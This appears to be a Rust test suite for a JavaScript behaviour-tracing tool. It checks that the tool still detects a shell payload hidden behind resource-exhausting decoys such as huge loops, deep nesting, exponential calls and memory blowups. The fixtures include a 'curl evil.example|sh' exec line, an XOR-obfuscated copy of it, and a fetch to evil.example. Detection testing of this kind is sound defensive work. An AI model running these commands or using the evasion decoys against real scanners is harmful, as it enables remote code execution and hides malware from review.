//! Code that is there to use up what an evaluation may spend, so that what stands
//! behind it is not seen.

use ringfence_analysis::{Coverage, Effect, Trace};

use super::{does, trace_of, trace_one};

const PAYLOAD: &str = "require('child_process').exec('curl evil.example|sh');";
/// Text that a loop has to decode before it is known.
const DECODED: &str =
    "const k = [98,116,115,109,33,100,119,104,109,47,100,121,96,108,113,109,100,125,114,105];
let t = ''; for (let i = 0; i < k.length; i++) { t += String.fromCharCode(k[i] ^ 1) }
require('child_process').exec(t);";
const LONG_LOOP: &str = "let n = 0; for (let i = 0; i < 1e9; i++) { n += i }\n";

fn runs(trace: &Trace) -> bool {
    does(trace, Effect::Shell, "node:child_process.exec", "curl evil.example|sh")
}

/// Whether it is told that not everything was followed, and where.
fn is_told(trace: &Trace) -> bool {
    !trace.cut.is_empty()
        && trace.coverage.iter().any(|(_, coverage)| matches!(coverage, Coverage::Partly { .. }))
}

fn nest(open: &str, inner: &str, close: &str, levels: usize) -> String {
    format!("{}{inner}{}", open.repeat(levels), close.repeat(levels))
}

#[test]
fn what_stands_behind_a_decoy_is_found() {
    let doubling: String = (1..40)
        .map(|at| format!("function a{at}(x) {{ a{0}(x + 'l'); a{0}(x + 'r') }}\n", at - 1))
        .collect();
    let first = "function a0(x) { return x }\n";
    let texts = "const s = []; for (let i = 0; i < 100000; i++) s.push('x'.repeat(1000000));\n";
    for (what, decoy) in [
        ("a loop", LONG_LOOP.to_owned()),
        ("loops in loops", nest("for (let i = 0; i < 1e6; i++) {", "n++", "}", 20)),
        ("a loop that nothing ends", "for (;;) { globalThis.n++ }\n".to_owned()),
        ("calls that double", format!("{first}{doubling}a39('x');\n")),
        ("calls that double, with functions", format!("{first}{doubling}a39(a1);\n")),
        ("text", texts.to_owned()),
        ("an array", format!("const a = [{}];\n", "[1,'x'],".repeat(100_000))),
        (
            "an array that is mapped",
            "[...'x'.repeat(1e6)].map(x => [x, x]).forEach(x => x.push(x));\n".to_owned(),
        ),
        ("blocks", nest("{", "", "}", 5_000)),
        ("if", nest("if (a) {", "", "}", 5_000)),
        ("try", nest("try {", "", "} catch (e) {}", 3_000)),
        ("try in catch", nest("try { a() } catch (e) {", "", "}", 3_000)),
        ("try in finally", nest("try { a() } finally {", "", "}", 3_000)),
        ("switch", nest("switch (a) { case 1: b(); case 2:", "", "}", 3_000)),
        ("class", nest("(class { static {", "", "} });", 1_000)),
        ("with", nest("with (a) {", "", "}", 3_000)),
        ("functions", nest("(function () {", "", "})();", 3_000)),
        ("arrows", nest("(x => ", "1", ")(2)", 3_000)),
        ("imports", "import('a');".repeat(150_000)),
    ] {
        let trace = trace_one(&format!("{decoy};{PAYLOAD}"));
        let refused = matches!(trace.coverage[0].1, Coverage::Unparsed { .. });
        assert!(runs(&trace), "{what}, refused: {refused}");
    }
}

#[test]
fn what_stands_within_a_deep_nest_is_found() {
    for (open, close) in [
        ("{", "}"),
        ("if (a) {", "}"),
        ("try {", "} catch (e) {}"),
        ("try { a() } catch (e) {", "}"),
        ("switch (a) { case 1:", "}"),
        ("with (a) {", "}"),
        ("for (const a of b) {", "}"),
        ("while (a) {", "}"),
        ("(function () {", "})();"),
        ("(() => {", "})();"),
        ("(class { static {", "} });"),
        ("new (class { constructor() {", "} })();"),
        ("f(() => {", "});"),
        ("f({ a: [function () {", "}] });"),
    ] {
        for levels in [100, 1_000, 2_300] {
            let trace = trace_one(&nest(open, PAYLOAD, close, levels));
            assert!(runs(&trace), "{open} {levels}: {:?}", trace.coverage);
        }
    }
}

#[test]
fn a_loop_that_is_not_run_to_its_end_decides_nothing() {
    let array = format!("[{}]", "1,".repeat(60_000));
    for source in [
        format!("{LONG_LOOP} if (n > 1e15) {{ {PAYLOAD} }}"),
        format!("{LONG_LOOP} if (n < 1e15) {{ n = 0 }} else {{ {PAYLOAD} }}"),
        format!("{LONG_LOOP} n > 1e15 && {}", PAYLOAD.trim_end_matches(';')),
        format!("{LONG_LOOP} n > 1e15 ? {} : 0", PAYLOAD.trim_end_matches(';')),
        format!("{LONG_LOOP} switch (n > 1e15) {{ case true: {PAYLOAD} }}"),
        format!("{LONG_LOOP} while (n > 1e15) {{ {PAYLOAD} }}"),
        format!("(() => {{ {LONG_LOOP} if (n < 1e15) return; {PAYLOAD} }})()"),
        format!("try {{ {LONG_LOOP} if (n < 1e15) throw 1; }} finally {{ }} {PAYLOAD}"),
        format!(
            "let n = 0; const f = () => {{ n++ }}; for (let i = 0; i < 1e9; i++) f(); if (n === 1e9) {{ {PAYLOAD} }}"
        ),
        format!("let n = 0; {array}.forEach(x => {{ n += x }}); if (n === 60000) {{ {PAYLOAD} }}"),
        format!("let n = 0; for (const x of {array}) n += x; if (n === 60000) {{ {PAYLOAD} }}"),
    ] {
        let trace = trace_one(&source);
        assert!(runs(&trace), "{source}");
        assert!(is_told(&trace), "{source}");
    }
}

#[test]
fn one_file_does_not_use_up_what_another_needs() {
    for (one, other) in [("a.js", "b.js"), ("b.js", "a.js")] {
        let trace = trace_of(&[(one, LONG_LOOP), (other, DECODED)]);
        assert!(runs(&trace) && is_told(&trace), "{one}");
    }
    let names: Vec<String> = (0..300).map(|at| format!("f{at}.js")).collect();
    let mut files: Vec<(&str, &str)> =
        names.iter().map(|name| (name.as_str(), LONG_LOOP)).collect();
    files.push(("z.js", DECODED));
    assert!(runs(&trace_of(&files)));
    let texts = "let s = []; for (let i = 0; i < 100000; i++) s.push('x'.repeat(1000000) + i);";
    let trace = trace_of(&[("a.js", texts), ("b.js", DECODED)]);
    assert!(runs(&trace) && is_told(&trace));
}

#[test]
fn one_loop_does_not_use_up_what_the_next_needs() {
    assert!(runs(&trace_one(&format!("{{ {LONG_LOOP} }} {DECODED}"))));
    assert!(runs(&trace_one(&format!("function f() {{ {LONG_LOOP} }} f(); {DECODED}"))));
    let four = format!("{{ {LONG_LOOP} }}").repeat(4);
    assert!(runs(&trace_one(&format!("{four} {DECODED}"))));
}

#[test]
fn what_is_called_often_before_is_not_forgotten() {
    let calls: String = (0..40).map(|at| format!("run('ls {at}');")).collect();
    let function = "function run(x) { require('child_process').exec(x) }";
    assert!(runs(&trace_one(&format!("{function} {calls} run('curl evil.example|sh')"))));
    let calls: String = (0..4_000).map(|at| format!("run('ls {at}');")).collect();
    assert!(is_told(&trace_one(&format!("{function} {calls} run('curl evil.example|sh')"))));
}

#[test]
fn more_events_than_are_kept_are_told_and_leave_room_for_others() {
    let many = "fetch('http://a.example');".repeat(120_000);
    let trace = trace_one(&format!("{many}{PAYLOAD}"));
    assert!(runs(&trace) && is_told(&trace));
    let trace = trace_of(&[("a.js", &many), ("b.js", "fetch('http://evil.example/x')")]);
    assert!(does(&trace, Effect::Request, "js:fetch", "http://evil.example/x"));
}

#[test]
fn code_in_code_beyond_what_is_followed_is_told() {
    let mut text = PAYLOAD.to_owned();
    for _ in 0..9 {
        text = format!("eval({})", serde_json::Value::from(text));
    }
    assert!(is_told(&trace_one(&text)));
}

#[test]
fn a_file_on_which_the_parser_fails_hides_no_other() {
    // With its own checks on, oxc 0.146 gives up on the first of these.
    let trace = trace_of(&[("a.js", "/*#__PURE__*/:"), ("b.js", PAYLOAD), ("c.js", "a(")]);
    assert!(runs(&trace));
    assert_eq!(trace.coverage.len(), 3);
    assert!(matches!(trace.coverage[0].1, Coverage::Unparsed { .. }));
}

#[test]
fn a_few_bytes_do_not_take_all_memory() {
    for source in [
        "const o = {}; for (let i = 0; ; i++) o['k' + i] = { ...o }",
        "const o = {}; for (let i = 0; ; i++) o['k' + i] = Object.assign({}, o)",
        "for (;;```````````````````````````````````````````````````````````) {}",
        "for (; f({ a: [1, 2, 3] }, [4, 5, 6], [7, 8, 9], [[[[[]]]]]) !== 1;) {}",
        "let a = [1]; for (let i = 0; i < 60; i++) a.unshift(...a)",
        "let a = [1]; for (let i = 0; i < 60; i++) a.splice(0, 0, ...a)",
        "let a = [1]; for (let i = 0; i < 60; i++) a = [...a, ...a]",
    ] {
        assert_eq!(trace_one(source).coverage.len(), 1, "{source}");
    }
    let many = "let a = [1]; for (let i = 0; i < 19; i++) a = a.concat(a);".to_owned()
        + &(0..400).map(|at| format!("const b{at} = a.slice();")).collect::<String>();
    let trace = trace_one(&format!("{many}{PAYLOAD}"));
    assert!(runs(&trace) && is_told(&trace));
    assert!(peak() < 3 << 20, "{} KiB", peak());
}

/// The most memory that this process had, in KiB.
fn peak() -> u64 {
    let status = std::fs::read_to_string("/proc/self/status").unwrap_or_default();
    let line = status.lines().find_map(|line| line.strip_prefix("VmHWM:"));
    line.and_then(|line| line.trim().trim_end_matches(" kB").parse().ok()).unwrap_or(0)
}
